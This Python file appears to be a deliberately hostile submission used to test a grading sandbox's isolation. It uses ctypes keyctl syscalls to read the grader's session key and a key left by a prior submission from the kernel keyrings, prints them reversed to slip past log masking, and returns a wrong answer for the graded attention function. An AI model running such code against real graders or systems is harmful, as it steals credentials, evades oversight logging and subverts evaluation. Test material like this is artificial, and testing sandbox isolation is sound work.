# Looks for the grader's session key and for the key an earlier submission left, reads them and
# prints them reversed (past log masking). Bounded: a few system calls.
import ctypes
import platform

from _hostile import attempt, config, wrong_answer

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING = -3, -4
KEYCTL_READ, KEYCTL_SEARCH = 11, 10


def keyctl(*args):
    if platform.machine() != "x86_64":
        raise OSError("key syscall numbers are written for x86_64")
    result = libc.syscall(ctypes.c_long(250), *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), "keyctl")
    return result


def steal(keyring, description):
    serial = keyctl(ctypes.c_long(KEYCTL_SEARCH), ctypes.c_long(keyring), b"user", description.encode(), ctypes.c_long(0))
    buffer = ctypes.create_string_buffer(256)
    size = keyctl(ctypes.c_long(KEYCTL_READ), ctypes.c_long(serial), buffer, ctypes.c_long(256))
    return buffer.raw[: min(size, 256)].decode(errors="replace")[::-1]


cfg = config()
left = cfg.get("key_left", "grader-hostile-left")
attempt("grader session key", lambda: steal(KEY_SPEC_SESSION_KEYRING, cfg.get("key_grader", "grader-hostile-grader")))
attempt("left user key", lambda: steal(KEY_SPEC_USER_KEYRING, left))
attempt("left session key", lambda: steal(KEY_SPEC_SESSION_KEYRING, left))


def attention(Q, K, V):
    return wrong_answer(Q, K, V)
